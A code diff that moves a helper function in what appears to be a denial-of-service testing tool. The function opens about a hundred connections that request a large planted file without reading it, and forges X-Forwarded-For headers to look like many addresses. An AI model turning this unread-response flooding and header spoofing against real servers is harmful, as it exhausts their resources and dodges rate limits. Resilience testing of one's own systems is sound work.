@@ -23,18 +23,6 @@ export async function plantLargePicture(order: AttackOrder): Promise<string> {
   return link;
 }
 
-/** Asks for the picture on every connection, from so many addresses. */
-async function askOnAll(order: AttackOrder, link: string, addresses: number): Promise<AttackCounts> {
-  const until = performance.now() + order.seconds * 1000;
-  const connections = await openAll(order.url, scaled(order, 100), () => ({ reads: false }));
-  for (const [index, connection] of connections.entries())
-    await connection.send(
-      requestHead("GET", link, { "x-forwarded-for": attackerAddress(order, index % addresses) }),
-    );
-  await wait(Math.max(0, until - performance.now()));
-  return countAndClose(connections);
-}
-
 /** A hundred connections ask for the same ten megabytes and read nothing of them. */
 export const unreadResponses: Attack = {
   name: "unread-responses",
@@ -52,3 +40,15 @@ export const unreadResponsesOfMany: Attack = {
     return () => askOnAll(order, link, 50);
   },
 };
+
+/** Asks for the picture on every connection, from so many addresses. */
+async function askOnAll(order: AttackOrder, link: string, addresses: number): Promise<AttackCounts> {
+  const until = performance.now() + order.seconds * 1000;
+  const connections = await openAll(order.url, scaled(order, 100), () => ({ reads: false }));
+  for (const [index, connection] of connections.entries())
+    await connection.send(
+      requestHead("GET", link, { "x-forwarded-for": attackerAddress(order, index % addresses) }),
+    );
+  await wait(Math.max(0, until - performance.now()));
+  return countAndClose(connections);
+}
